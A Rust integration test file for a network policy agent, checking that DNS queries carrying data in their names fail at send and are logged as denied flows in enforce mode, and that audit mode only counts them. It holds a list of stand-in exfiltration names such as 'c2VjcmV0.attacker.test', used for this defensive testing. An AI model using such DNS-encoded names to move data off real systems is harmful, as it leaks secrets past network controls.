//! `[dns] queries = "policy"`: DNS as a channel. A process in the enforced
//! cgroup asks the allowed resolver for names that carry data
//! (`<data>.attacker.test`); each such query must fail at send, never reach
//! the resolver, be counted and show as a denied flow with the name, while
//! the policy's names (exact, wildcard, `[dns] search`) resolve as before.

use std::{path::PathBuf, time::Duration};

use sdm_tests::{
    gateway::{gateway_config, gateway_dns, serve_all, wait_for, GATEWAY_HOSTS},
    lab::{result, Lab},
};
use serde_json::Value;

/// Names under this suffix are allowed by a wildcard rule.
const WILD: &str = "wild.lab.test";
/// `[dns] search` suffix.
const SEARCH: &str = "corp.lab.test";
/// Names an exfiltrating workload would ask for.
const EXFIL: [&str; 4] = [
    "c2VjcmV0.attacker.test",
    "app.strongdm.com.attacker.test",
    // The wildcard's own base name is not under it.
    WILD,
    // A name under the search suffix's parent, not under the suffix.
    "x.lab.test",
];

fn lab(mode: &str) -> (Lab, PathBuf) {
    let mut lab = Lab::new(env!("CARGO_BIN_EXE_lab-probe"));
    serve_all(&lab);
    gateway_dns(&lab, 300);
    let mut config = gateway_config(
        &lab,
        mode,
        &format!("queries = \"policy\"\nsearch = [\"{SEARCH}\"]"),
    );
    config.tables.push_str(&format!(
        "\n[[allow]]\n\
         name = \"wild\"\n\
         direction = \"egress\"\n\
         to = \"*.{WILD}\"\n\
         port = 443\n"
    ));
    let path = lab.write_config("queries.toml", &config);
    lab.start_agent(&path, mode, &GATEWAY_HOSTS);
    (lab, path)
}

fn resolve(lab: &Lab, name: &str) -> Value {
    lab.probe(&["resolve", &lab.dns_ip().to_string(), name])
}

fn queries(lab: &Lab, verdict: &str) -> u64 {
    lab.status()["dns_queries"][verdict].as_u64().unwrap_or(0)
}

fn dns_query_flow(lab: &Lab, config: &std::path::Path, name: &str) -> Option<Value> {
    let out = lab.agent_ok(&["flows", "--config", &config.display().to_string(), "--json"]);
    out.lines()
        .filter_map(|l| serde_json::from_str::<Value>(l).ok())
        .find(|f| f["reason"] == "dns_query" && f["hostname"] == name)
}

/// Attack: data in query names, over UDP and TCP, to the allowed resolver.
#[test]
fn queries_for_names_outside_the_policy_fail_at_send_and_never_reach_the_resolver() {
    let (lab, config) = lab("enforce");
    assert_eq!(lab.status()["dns_queries_mode"], "policy");
    let allowed_before = queries(&lab, "allowed");

    // The policy's names still resolve: exact (any case), wildcard, search.
    for name in [
        "app.strongdm.com",
        "DB.Lab.Test",
        &format!("api.{WILD}"),
        &format!("host.{SEARCH}"),
    ] {
        let v = resolve(&lab, name);
        assert_eq!(result(&v), "ok", "{name}: {v}");
    }
    assert!(
        queries(&lab, "allowed") >= allowed_before + 4,
        "{}",
        lab.status()["dns_queries"]
    );

    for name in EXFIL {
        let v = resolve(&lab, name);
        assert_eq!(result(&v), "eperm", "{name} must fail at send: {v}");
        assert_eq!(v["phase"], "send", "{v}");
        assert_eq!(
            lab.dns().queries_for(name),
            0,
            "{name} reached the resolver: {}",
            lab.dns().describe()
        );
    }
    assert!(
        queries(&lab, "refused") >= EXFIL.len() as u64,
        "{}",
        lab.status()["dns_queries"]
    );

    // Over TCP: the handshake passes, the question is judged.
    let v = lab.probe(&["resolve-tcp", &lab.dns_ip().to_string(), EXFIL[0]]);
    assert_ne!(result(&v), "ok", "a refused name over TCP: {v}");
    let v = lab.probe(&["resolve-tcp", &lab.dns_ip().to_string(), "app.strongdm.com"]);
    assert_eq!(result(&v), "ok", "an allowed name over TCP: {v}");
    assert_eq!(
        lab.dns().queries_for(EXFIL[0]),
        0,
        "{}",
        lab.dns().describe()
    );

    // The refusal is a denied flow that names what was asked.
    let flow = wait_for(Duration::from_secs(10), Duration::from_millis(200), || {
        dns_query_flow(&lab, &config, EXFIL[0])
    })
    .unwrap_or_else(|| panic!("no dns_query flow naming {}", EXFIL[0]));
    assert_eq!(flow["port"], 53, "{flow}");
    let metrics = lab.metrics();
    assert!(
        metrics.contains("sdm_dns_queries_total{verdict=\"refused\"}"),
        "{metrics}"
    );
}

/// Audit mode: the same queries are counted as would-be refusals and pass.
#[test]
fn audit_mode_counts_refused_queries_without_refusing_them() {
    let (lab, _) = lab("audit");
    let before = queries(&lab, "would_refuse");
    let v = resolve(&lab, EXFIL[0]);
    assert_eq!(result(&v), "ok", "audit passes the query: {v}");
    assert_eq!(lab.dns().queries_for(EXFIL[0]), 1);
    assert!(
        queries(&lab, "would_refuse") > before,
        "{}",
        lab.status()["dns_queries"]
    );
    assert_eq!(queries(&lab, "refused"), 0);
}
